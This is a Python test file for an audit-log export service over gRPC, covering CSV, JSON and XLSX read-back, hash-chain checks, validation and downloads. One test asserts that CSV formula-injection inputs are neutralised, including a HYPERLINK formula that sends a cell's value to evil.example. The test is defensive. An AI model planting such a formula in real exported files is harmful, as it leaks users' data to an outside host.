"""ExportService end to end over gRPC with the local folder: each format read back by a real
reader and compared with the events field by field; validation, listing, downloads."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import grpc
import openpyxl
import pytest
import rfc8785
from google.rpc import error_details_pb2
from grpc_status import rpc_status

from audit.v1 import audit_service_pb2, audit_service_pb2_grpc, event_pb2, export_service_pb2
from auditlog.domain import canonical
from auditlog.export.csv_writer import FORMULA_TRIGGERS, restore
from auditlog.export.local_storage import LocalStorage
from auditlog.export.runner import RunnerSettings
from auditlog.export.storage import StorageError
from tests.fix_export import (
    AWKWARD_TEXTS,
    ServiceFactory,
    append_events,
    create_export,
    download_content,
    event_fields,
    export_stub,
    sample_inputs,
    wait_for_job,
)

# Not hashed: the hashes, the canonical form version (which says whether recorded_by is) and the
# event's inclusion proof in the export's checkpoint.
HASHES = ("leaf_hash", "prev_hash", "chain_hash", "canonical_version", "inclusion_proof")


def all_events(channel: grpc.Channel) -> list[event_pb2.AuditEvent]:
    stub = audit_service_pb2_grpc.AuditServiceStub(channel)
    messages = stub.SearchEvents(audit_service_pb2.SearchEventsRequest(), timeout=30)
    return [event for message in messages for event in message.events]


def export_file(
    channel: grpc.Channel, export_format: str, **filters: str
) -> tuple[export_service_pb2.ExportJob, bytes]:
    job = wait_for_job(channel, create_export(channel, export_format, **filters).id)
    assert job.status == "completed", job.error
    data, _, _ = download_content(channel, job.id)
    return job, data


def violations(err: grpc.RpcError) -> dict[str, str]:
    status = rpc_status.from_call(err)
    assert status is not None
    out: dict[str, str] = {}
    for detail in status.details:
        bad = error_details_pb2.BadRequest()
        if detail.Unpack(bad):
            out.update({v.field: v.description for v in bad.field_violations})
    return out


def test_csv_export_reads_back_field_by_field(export_channel: grpc.Channel) -> None:
    append_events(export_channel, sample_inputs(30))
    events = all_events(export_channel)
    job, data = export_file(export_channel, "csv")
    assert (job.rows_written, job.rows_expected, job.max_sequence) == (30, 30, 29)
    assert job.file_sha256 == hashlib.sha256(data).hexdigest() and job.file_size == len(data)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == len(events)
    for row, event in zip(rows, events, strict=True):
        expected = event_fields(event)
        for name, cell in row.items():
            if name in (
                "event_type",
                "user_id",
                "action",
                "resource_type",
                "resource_id",
                "risk_level",
                "ip_address",
                "user_agent",
                "session_id",
                "request_id",
            ):
                assert restore(cell) == expected[name], name
            elif name == "details":
                assert json.loads(restore(cell)) == expected["details"]
            elif name in ("sequence", "canonical_version"):
                assert int(cell) == expected[name], name
            elif name == "recorded_by":
                assert restore(cell) == expected[name]
            elif name == "occurred_at":
                assert cell == (expected["occurred_at"] or "")
            else:
                assert cell == expected[name], name


def test_csv_export_neutralises_formula_cells(export_channel: grpc.Channel) -> None:
    inputs = sample_inputs(len(AWKWARD_TEXTS))
    for message, text in zip(inputs, AWKWARD_TEXTS, strict=True):
        message.user_id = text.replace("\n", " ")
    append_events(export_channel, inputs)
    _, data = export_file(export_channel, "csv")
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
    assert "'@SUM(A1:A2)" in cells and "'+1+2" in cells and "'-2+3" in cells and "''quoted" in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS[:-1])]


def _recompute_independently(event: dict[str, Any]) -> tuple[str, str]:
    """Leaf and chain hash from the file's values with only hashlib and an RFC 8785 library."""
    hashed = {k: v for k, v in event.items() if k not in HASHES}
    leaf = hashlib.sha256(b"\x00" + rfc8785.dumps(hashed)).digest()
    chain = hashlib.sha256(bytes.fromhex(str(event["prev_hash"])) + leaf).digest()
    return leaf.hex(), chain.hex()


def test_json_export_hashes_recompute_from_the_file_alone(export_channel: grpc.Channel) -> None:
    append_events(export_channel, sample_inputs(25))
    events = all_events(export_channel)
    job, data = export_file(export_channel, "json")
    document = json.loads(data)
    assert document["format"] == "auditlog.export.v1"
    meta = document["metadata"]
    assert meta["job_id"] == job.id and meta["row_count"] == 25 and meta["requested_by"] == "tester"
    assert (meta["first_sequence"], meta["last_sequence"], meta["max_sequence"]) == (0, 24, 24)
    assert [{k: v for k, v in e.items() if k != "inclusion_proof"} for e in document["events"]] == [
        event_fields(e) for e in events
    ]
    prev = "00" * 32
    for event in document["events"]:
        assert event["prev_hash"] == prev
        assert _recompute_independently(event) == (event["leaf_hash"], event["chain_hash"])
        fields = {k: v for k, v in event.items() if k not in HASHES}
        fields["id"] = uuid.UUID(str(fields["id"]))
        for name in ("occurred_at", "recorded_at"):
            fields[name] = None if fields[name] is None else canonical_time(fields[name])
        leaf = canonical.leaf_hash(canonical.canonical_bytes(**fields))
        assert canonical.chain_hash(bytes.fromhex(prev), leaf).hex() == event["chain_hash"]
        prev = event["chain_hash"]
    assert meta["last_chain_hash"] == prev


def canonical_time(value: object) -> datetime:
    assert isinstance(value, str)
    return datetime.fromisoformat(value)


def test_xlsx_export_reads_back_field_by_field(export_channel: grpc.Channel) -> None:
    append_events(export_channel, sample_inputs(20))
    events = all_events(export_channel)
    job, data = export_file(export_channel, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["Events"]
    assert sheet.freeze_panes == "A2"
    table = list(sheet.iter_rows(values_only=True))
    header = [str(h).removesuffix(" (UTC)") for h in table[0]]
    assert len(table) - 1 == len(events)
    for values, event in zip(table[1:], events, strict=True):
        row = dict(zip(header, values, strict=True))
        expected = event_fields(event)
        for name in ("recorded_at", "occurred_at"):
            if expected[name] is None:
                assert row[name] is None
            else:
                # Excel keeps milliseconds.
                exact = canonical_time(expected[name])
                delta = row[name].replace(tzinfo=UTC) - exact
                assert abs(delta) < timedelta(milliseconds=1)
        assert json.loads(row["details"]) == expected["details"]
        for name in set(header) - {"recorded_at", "occurred_at", "details"}:
            # An empty text is an empty cell.
            assert (row[name] if row[name] is not None else "") == expected[name], name
    meta = {r[0]: r[1] for r in book["Export"].iter_rows(values_only=True)}
    assert meta["job_id"] == job.id and meta["row_count"] == 20


def test_xlsx_export_splits_sheets_at_the_configured_limit(start_service: ServiceFactory) -> None:
    svc = start_service(settings=RunnerSettings(poll_interval=0.2, sheet_row_limit=7))
    with grpc.insecure_channel(f"127.0.0.1:{svc.port}") as channel:
        append_events(channel, sample_inputs(16))
        _, data = export_file(channel, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert book.sheetnames == ["Events", "Events 2", "Events 3", "Export"]
    counts = [sum(1 for _ in book[n].iter_rows(min_row=2)) for n in book.sheetnames[:3]]
    assert counts == [7, 7, 2]


def test_export_applies_the_filters(export_channel: grpc.Channel) -> None:
    append_events(export_channel, sample_inputs(12))
    job, data = export_file(export_channel, "json", event_type="user.login", risk_level="high")
    events = json.loads(data)["events"]
    assert events and all(e["event_type"] == "user.login" and e["risk_level"] == "high" for e in events)
    assert job.rows_written == len(events) == 3
    assert job.filters.event_type == "user.login"


def test_download_content_names_the_file_and_its_type(export_channel: grpc.Channel) -> None:
    append_events(export_channel, sample_inputs(3))
    job = wait_for_job(
        export_channel, create_export(export_channel, "csv", job_name="Monthly Audit Report").id
    )
    data, content_type, metadata = download_content(export_channel, job.id)
    assert content_type == "text/csv; charset=utf-8"
    assert metadata["content-disposition"] == 'attachment; filename="monthly-audit-report.csv"'
    link = export_stub(export_channel).GetExportDownload(
        export_service_pb2.GetExportDownloadRequest(id=job.id)
    )
    expires = int(link.expires_at.ToDatetime(tzinfo=UTC).timestamp())
    assert link.download_url.startswith(
        f"http://gateway.test:8000/api/v1/export/{job.id}/content?expires={expires}&signature="
    )
    assert 3590 < expires - time.time() <= 3600  # EXPORT_URL_EXPIRY_SECONDS
    assert (link.file_sha256, link.file_size, link.file_name) == (
        hashlib.sha256(data).hexdigest(),
        len(data),
        "monthly-audit-report.csv",
    )


def test_empty_log_exports_an_empty_file(export_channel: grpc.Channel) -> None:
    job, data = export_file(export_channel, "json")
    assert job.max_sequence == -1 and job.rows_written == 0
    assert json.loads(data)["events"] == []


@pytest.mark.parametrize(
    ("job_name", "export_format", "filters", "field"),
    [
        ("x", "pdf", {}, "export.export_format"),
        ("", "csv", {}, "export.job_name"),
        ("   ", "csv", {}, "export.job_name"),
        ("x" * 201, "csv", {}, "export.job_name"),
        ("x", "csv", {"start_date": "yesterday"}, "export.filters.start_date"),
        ("x", "csv", {"start_date": "2024-02-01", "end_date": "2024-01-01"}, "export.filters.end_date"),
        ("x", "csv", {"risk_level": "severe"}, "export.filters.risk_level"),
    ],
)
def test_bad_export_spec_is_refused_naming_the_field(
    export_channel: grpc.Channel, job_name: str, export_format: str, filters: dict[str, str], field: str
) -> None:
    request = export_service_pb2.CreateExportRequest(
        export=export_service_pb2.ExportSpec(
            job_name=job_name, export_format=export_format, filters=event_pb2.EventFilter(**filters)
        )
    )
    with pytest.raises(grpc.RpcError) as info:
        export_stub(export_channel).CreateExport(request)
    assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert field in violations(info.value)


def test_unknown_or_malformed_job_id(export_channel: grpc.Channel) -> None:
    stub = export_stub(export_channel)
    with pytest.raises(grpc.RpcError) as info:
        stub.GetExport(export_service_pb2.GetExportRequest(id="123e4567-e89b-12d3-a456-426614174000"))
    assert info.value.code() == grpc.StatusCode.NOT_FOUND
    with pytest.raises(grpc.RpcError) as info:
        stub.GetExportDownload(export_service_pb2.GetExportDownloadRequest(id="nope"))
    assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT and "id" in violations(info.value)


def test_download_of_unfinished_job_is_a_failed_precondition(start_service: ServiceFactory) -> None:
    svc = start_service(settings=RunnerSettings(workers=0))
    with grpc.insecure_channel(f"127.0.0.1:{svc.port}") as channel:
        job = create_export(channel, "csv")
        assert job.status == "pending"
        with pytest.raises(grpc.RpcError) as info:
            export_stub(channel).GetExportDownload(export_service_pb2.GetExportDownloadRequest(id=job.id))
        assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        assert "pending" in str(info.value.details())


def test_list_exports_pages_newest_first(start_service: ServiceFactory) -> None:
    svc = start_service(settings=RunnerSettings(workers=0))
    with grpc.insecure_channel(f"127.0.0.1:{svc.port}") as channel:
        ids = [create_export(channel, "csv", job_name=f"job {i}").id for i in range(5)]
        stub = export_stub(channel)
        seen: list[str] = []
        token = ""
        while True:
            page = stub.ListExports(export_service_pb2.ListExportsRequest(page_size=2, page_token=token))
            seen.extend(j.id for j in page.exports)
            token = page.next_page_token
            if not token:
                break
        assert seen == ids[::-1]
        with pytest.raises(grpc.RpcError) as info:
            stub.ListExports(export_service_pb2.ListExportsRequest(page_size=5000))
        assert "page_size" in violations(info.value)


def test_list_export_formats(export_channel: grpc.Channel) -> None:
    formats = (
        export_stub(export_channel).ListExportFormats(export_service_pb2.ListExportFormatsRequest()).formats
    )
    assert [(f.name, f.file_extension) for f in formats] == [
        ("csv", ".csv"),
        ("json", ".json"),
        ("xlsx", ".xlsx"),
        ("ndjson", ".ndjson"),
        ("ocsf", ".ocsf.ndjson"),
    ]
    assert all(f.content_type and f.description for f in formats)


def test_missing_local_file_is_a_failed_precondition(export_channel: grpc.Channel, tmp_path: Path) -> None:
    job = wait_for_job(export_channel, create_export(export_channel, "csv", job_name="gone").id)
    (tmp_path / "data" / "exports" / job.id / "gone.csv").unlink()
    with pytest.raises(grpc.RpcError) as info:
        download_content(export_channel, job.id)
    assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "missing" in str(info.value.details())


def test_malformed_page_token_is_refused(export_channel: grpc.Channel) -> None:
    with pytest.raises(grpc.RpcError) as info:
        export_stub(export_channel).ListExports(export_service_pb2.ListExportsRequest(page_token="%%%"))
    assert "page_token" in violations(info.value)


def test_unwritable_export_folder_is_reported_without_its_path(tmp_path: Path) -> None:
    # A file where the folder should be: refused even to root, which ignores permissions.
    root = tmp_path / "exports"
    root.write_text("")
    source = tmp_path / "x.csv"
    source.write_text("a\r\n")
    with pytest.raises(StorageError) as info:
        LocalStorage(root, "http://localhost:8000").store(
            source, job_id="j1", file_name="x.csv", content_type="text/csv"
        )
    assert str(info.value) == "the server cannot store the export in its export folder (Not a directory)"
    assert str(tmp_path) not in str(info.value)
